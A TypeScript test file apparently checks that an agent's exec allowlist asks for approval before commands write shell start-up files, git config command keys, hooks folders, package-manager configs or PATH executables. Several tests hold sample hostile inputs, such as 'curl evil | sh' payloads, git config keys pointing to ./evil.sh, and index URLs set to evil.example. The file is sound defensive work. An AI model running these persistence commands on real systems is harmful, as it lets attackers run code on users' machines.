// An allow-listed exec command that names a start-up file or git's user-wide config is asked about, not run at
// once: `cp*` or `git config*` on the allowlist must not write ~/.bashrc or ~/.gitconfig without an approval.
// Real files in a temp HOME.
import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs'
import os from 'node:os'
import path from 'node:path'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import type { ExecApprovalRequest } from '../../../shared/events'
import { allowlistStartupReason } from './exec-startup-guard'
import { makeCtx, makeSandbox, run, textOf, type Sandbox, type TestCtx } from './test-helpers'

let sb: Sandbox
let home: string
const saved: Record<string, string | undefined> = {}
const ENV = ['HOME', 'XDG_CONFIG_HOME', 'XDG_DATA_HOME', 'ZDOTDIR'] as const
beforeEach(() => {
  sb = makeSandbox()
  home = sb.base
  for (const k of ENV) saved[k] = process.env[k]
  process.env.HOME = home
  for (const k of ENV.slice(1)) delete process.env[k]
})
afterEach(() => {
  for (const k of ENV) {
    if (saved[k] === undefined) delete process.env[k]
    else process.env[k] = saved[k]
  }
  sb.cleanup()
})

async function nextRequest(ctx: TestCtx): Promise<ExecApprovalRequest> {
  for (let i = 0; i < 300; i++) {
    const req = ctx.events.find((e) => e.event === 'exec.approval.requested')
    if (req) return req.payload as ExecApprovalRequest
    await new Promise((r) => setTimeout(r, 10))
  }
  throw new Error('no approval request emitted')
}

describe('exec: allow-listed commands that would write files that run code later', () => {
  it('`cp evil .bashrc` on a `cp*` allowlist in a home-folder workspace asks; denied, .bashrc keeps its content', async () => {
    writeFileSync(path.join(home, '.bashrc'), '# mine\n')
    writeFileSync(path.join(home, 'evil.sh'), 'curl evil | sh\n')
    const ctx = makeCtx(home, { execAllowlist: ['cp*'] })
    const p = run(ctx, 'exec', { command: 'cp evil.sh .bashrc' })
    ctx.broker.resolve((await nextRequest(ctx)).id, 'deny')
    await expect(p).rejects.toThrow(/denied/)
    expect(readFileSync(path.join(home, '.bashrc'), 'utf8')).toBe('# mine\n')
    // an ordinary copy on the same allowlist runs without asking
    await run(ctx, 'exec', { command: 'cp evil.sh notes.txt' })
    expect(readFileSync(path.join(home, 'notes.txt'), 'utf8')).toBe('curl evil | sh\n')
    expect(ctx.events.filter((e) => e.event === 'exec.approval.requested')).toHaveLength(1)
  })

  it('a workspace that is a start-up folder (~/.config/nvim opened as the project): allow-listed copies inside it run, as write may; outside it they ask', async () => {
    const nvim = path.join(home, '.config/nvim')
    mkdirSync(path.join(nvim, 'lua'), { recursive: true })
    writeFileSync(path.join(nvim, 'init.lua'), 'vim.o.number = true\n')
    const ctx = makeCtx(nvim, { execAllowlist: ['cp*'] })
    await run(ctx, 'exec', { command: 'cp init.lua lua/backup.lua' })
    expect(readFileSync(path.join(nvim, 'lua/backup.lua'), 'utf8')).toBe('vim.o.number = true\n')
    expect(ctx.events.filter((e) => e.event === 'exec.approval.requested')).toHaveLength(0)
    const why = (cmd: string) => allowlistStartupReason(cmd, nvim, home, nvim)
    for (const cmd of ['cp init.lua lua/b.lua', 'cp lua/*.lua .', 'mv lua/a.lua lua/b.lua']) expect(why(cmd), cmd).toBeUndefined()
    // a start-up file outside the workspace, or a folder above it, still asks
    expect(why('cp init.lua ~/.bashrc')).toMatch(/shell start-up file/)
    expect(why('cp init.lua ~/.config/')).toMatch(/may write into/)
    expect(why('cp init.lua ../fish/config.fish')).toMatch(/fish/)
  })

  it('`git config --global include.path …` on a `git config*` allowlist asks; reading the config does not', async () => {
    const ctx = makeCtx(sb.ws, { execAllowlist: ['git config*'] })
    const p = run(ctx, 'exec', { command: 'git config --global include.path /tmp/evil' })
    ctx.broker.resolve((await nextRequest(ctx)).id, 'deny')
    await expect(p).rejects.toThrow(/denied/)
    expect(existsSync(path.join(home, '.gitconfig'))).toBe(false)
    expect(allowlistStartupReason('git config --global --get user.name', sb.ws)).toBeUndefined()
    expect(allowlistStartupReason('git config user.name me', sb.ws)).toBeUndefined()
  })

  it("a repository `git config` write of a key that names a command asks (the next `git status` would run it); harmless keys and reads do not", () => {
    const why = (cmd: string) => allowlistStartupReason(cmd, sb.ws)
    for (const cmd of [
      'git config core.fsmonitor ./evil.sh',
      'git config --local core.hooksPath .githooks',
      'git config alias.st !./evil.sh',
      'git config --add filter.x.clean ./evil.sh',
      'git config set core.pager ./evil.sh',
      'git config --type=path diff.external ./evil.sh',
      'git -C sub config remote.origin.uploadpack ./evil.sh',
      'git config hook.pre-commit.command ./evil.sh',
    ]) {
      expect(why(cmd), cmd).toMatch(/which can name a command git runs/)
    }
    for (const cmd of [
      'git config user.email me@example.com',
      'git config core.autocrlf input',
      'git config --type bool core.filemode false',
      'git config --type=bool core.filemode false',
      'git config branch.main.rebase true',
      'git config remote.origin.url git@example.com:me/repo.git',
      'git config merge.conflictStyle zdiff3',
      'git config core.fsmonitor',
      'git config --get core.pager',
      'git config --unset core.fsmonitor',
    ]) {
      expect(why(cmd), cmd).toBeUndefined()
    }
  })

  it("another program's config write that names no file asks (pip/npm/yarn config set, hg config --edit); reads do not", () => {
    const why = (cmd: string) => allowlistStartupReason(cmd, sb.ws)
    expect(why('pip config set global.index-url https://evil.example/simple')).toMatch(/pip's config/)
    expect(why('python3 -m pip config --user set global.extra-index-url https://evil.example')).toMatch(/pip's config/)
    expect(why('pip3.12 config edit')).toMatch(/pip's config/)
    expect(why('npm config set node-options=--require=/tmp/x.js')).toMatch(/npm's user config/)
    expect(why('npm set script-shell ./evil.sh')).toMatch(/npm's user config/)
    expect(why('yarn config set yarnPath ./evil.js')).toMatch(/Yarn's config/)
    expect(why('hg config --edit')).toMatch(/Mercurial's config/)
    // npm's alias and abbreviations of config, pip's flags before the action, conda's ~/.condarc
    expect(why('npm c set node-options=--require=/tmp/x.js')).toMatch(/npm's user config/)
    expect(why('npm conf set script-shell ./evil.sh')).toMatch(/npm's user config/)
    expect(why('pnpm c set script-shell ./evil.sh')).toMatch(/npm's user config/)
    expect(why('pip config --editor vim edit')).toMatch(/pip's config/)
    expect(why('conda config --add channels https://evil.example')).toMatch(/conda's config/)
    for (const cmd of ['npm ci', 'npm cache clean --force', 'npm c get registry', 'conda config --show channels', 'conda install numpy', 'git commit -m x', 'cargo build --release']) {
      expect(why(cmd), cmd).toBeUndefined()
    }
    for (const cmd of ['pip config list', 'pip install -r requirements.txt', 'npm config get registry', 'npm run build', 'npm config set x y --location=project', 'yarn config get yarnPath', 'hg config ui.username']) {
      expect(why(cmd), cmd).toBeUndefined()
    }
  })

  it('names the new start-up locations by path: ~/.hgrc, ~/.vim, ~/.cargo/config.toml, ~/.yarnrc.yml, pip.conf', () => {
    const why = (cmd: string) => allowlistStartupReason(cmd, sb.ws)
    expect(why('cp x ~/.hgrc')).toMatch(/Mercurial's user config/)
    expect(why('cp -r x ~/.vim/plugin/')).toMatch(/Vim's start-up/)
    expect(why('tee ~/.cargo/config.toml')).toMatch(/Cargo's folder/)
    expect(why('cp x ~/.yarnrc.yml')).toMatch(/Yarn's user config/)
    expect(why('cp x ~/.config/pip/pip.conf')).toMatch(/pip's config folder/)
    expect(why('cp x ~/.tmux.conf')).toMatch(/tmux's config/)
  })

  it("a file in a working tree's relative core.hooksPath folder asks", () => {
    writeFileSync(path.join(home, '.gitconfig'), '[core]\n\thooksPath = .githooks\n')
    mkdirSync(path.join(sb.ws, 'proj/.git'), { recursive: true })
    const why = (cmd: string) => allowlistStartupReason(cmd, sb.ws)
    expect(why('cp evil.sh proj/.githooks/pre-commit')).toMatch(/hooks folder \(core.hooksPath = \.githooks\)/)
    expect(why('cp evil.sh other/.githooks/pre-commit')).toBeUndefined()
  })

  it('a copy, move, link or unpack onto the hooks folder itself, or into a folder holding it, asks (`ln -s tools/hooks .githooks`)', () => {
    writeFileSync(path.join(home, '.gitconfig'), '[core]\n\thooksPath = .githooks\n')
    const repo = path.join(sb.ws, 'proj')
    mkdirSync(path.join(repo, '.git'), { recursive: true })
    mkdirSync(path.join(repo, 'src'))
    const why = (cmd: string) => allowlistStartupReason(cmd, repo)
    for (const cmd of ['ln -s tools/hooks .githooks', 'mv tools/hooks .githooks', 'cp -r tools/hooks .githooks', 'cp -r payload/. .', 'tar -xf x.tar -C .']) {
      expect(why(cmd), cmd).toMatch(/hooks folder or one holding it \(core.hooksPath = \.githooks\)/)
    }
    // elsewhere in the project, and reading, as before
    for (const cmd of ['mv src/a.ts src/b.ts', 'cp -r src lib', 'ls .githooks', 'git commit -m x', 'npm test', 'cargo build']) {
      expect(why(cmd), cmd).toBeUndefined()
    }
  })

  it('an existing executable in the home folder asks when the home folder is on $PATH (`.`)', () => {
    writeFileSync(path.join(home, 'deploy'), '#!/bin/sh\n', { mode: 0o755 })
    const saved = process.env.PATH
    try {
      process.env.PATH = ['/usr/bin', '.'].join(path.delimiter)
      expect(allowlistStartupReason('cp evil.sh ~/deploy', sb.ws)).toMatch(/an executable in your home folder, which is on your PATH/)
      expect(allowlistStartupReason('cp evil.sh ~/notes.txt', sb.ws)).toBeUndefined()
      process.env.PATH = '/usr/bin'
      expect(allowlistStartupReason('cp evil.sh ~/deploy', sb.ws)).toBeUndefined()
    } finally {
      process.env.PATH = saved
    }
  })

  it('names them by path, ~, quotes split apart, --opt=value, a glob that could reach one, and what ~/.gitconfig includes', () => {
    mkdirSync(path.join(home, 'dot'))
    writeFileSync(path.join(home, '.gitconfig'), '[include]\n\tpath = dot/extra\n')
    const why = (cmd: string, cwd = sb.ws) => allowlistStartupReason(cmd, cwd)
    expect(why('tee ~/.zshrc')).toMatch(/shell start-up file ~\/\.zshrc/)
    expect(why(`cp x ${home}/.config/fish/conf.d/x.fish`)).toMatch(/fish/)
    expect(why('cp x ~/".bash""rc"')).toMatch(/\.bashrc/)
    expect(why('install --target=~/.config/autostart x')).toMatch(/autostart/)
    expect(why('cp x ~/.b*rc')).toMatch(/could name/)
    expect(why('cp x ~/.gitconfig')).toMatch(/git's user-wide config/)
    expect(why('cp x ~/dot/extra')).toMatch(/a config file git includes/)
    expect(why('cp x ~/.BASHRC')).toMatch(/\.bashrc/)
    // a project workspace's own files and globs are not asked about
    expect(why('cp a.ts b.ts')).toBeUndefined()
    expect(why('ls src/*.ts')).toBeUndefined()
    expect(why('cat ~/notes.txt')).toBeUndefined()
  })

  it('names them as the shell spells them: ~user, a glued short option, a quoted path with spaces', () => {
    const user = os.userInfo().username
    const why = (cmd: string) => allowlistStartupReason(cmd, sb.ws)
    expect(why(`cp x ~${user}/.bashrc`)).toMatch(/\.bashrc/)
    expect(why(`sort -o${home}/.profile x`)).toMatch(/\.profile/)
    expect(why('sort -o~/.profile x')).toMatch(/\.profile/)
    mkdirSync(path.join(home, 'my tools'))
    const saved = process.env.PATH
    process.env.PATH = [path.join(home, 'my tools'), '/usr/bin'].join(path.delimiter)
    try {
      expect(why(`cp x "${home}/my tools/ls"`)).toMatch(/a folder on your PATH/)
      expect(why(`cp x '${home}/my tools/ls'`)).toMatch(/a folder on your PATH/)
    } finally {
      process.env.PATH = saved
    }
    // another user's ~ is theirs, and a quoted word stays one word
    expect(why('cp x ~nosuchuser0/.bashrc')).toBeUndefined()
    expect(why('echo "a b" c')).toBeUndefined()
  })

  it('a copy, move or unpack into a folder that holds a start-up file asks (`cp payload/.bashrc ~/`); reading it does not', async () => {
    mkdirSync(path.join(sb.ws, 'payload'))
    writeFileSync(path.join(sb.ws, 'payload/.bashrc'), 'curl evil | sh\n')
    writeFileSync(path.join(home, '.bashrc'), '# mine\n')
    const ctx = makeCtx(sb.ws, { execAllowlist: ['cp*'] })
    const p = run(ctx, 'exec', { command: 'cp payload/.bashrc ~/' })
    ctx.broker.resolve((await nextRequest(ctx)).id, 'deny')
    await expect(p).rejects.toThrow(/denied/)
    expect(readFileSync(path.join(home, '.bashrc'), 'utf8')).toBe('# mine\n')
    const why = (cmd: string) => allowlistStartupReason(cmd, sb.ws)
    expect(why('cp payload/.bashrc ~/')).toMatch(/may write into ~\/, which holds shell start-up file/)
    expect(why('cp -t ~ payload/.profile')).toMatch(/may write into/)
    expect(why('tar -xf a.tar -C ~/.config')).toMatch(/may write into/)
    expect(why('rsync -a payload/ ..')).toMatch(/may write into/)
    // reading a folder that holds one, or copying inside the project, is not asked about
    expect(why('ls ~')).toBeUndefined()
    expect(why('grep -r TODO ~/notes')).toBeUndefined()
    expect(why('cp -r payload backup')).toBeUndefined()
  })

  it('a lone "*" allowlist (approvals off) is left as the user set it', async () => {
    const ctx = makeCtx(sb.ws, { execAllowlist: ['*'] })
    // (echo only: never a write, whichever HOME the shell sees)
    expect(textOf(await run(ctx, 'exec', { command: 'echo ~/.zshrc' }))).toMatch(/\.zshrc/)
    expect(ctx.events).toHaveLength(0)
  })
})
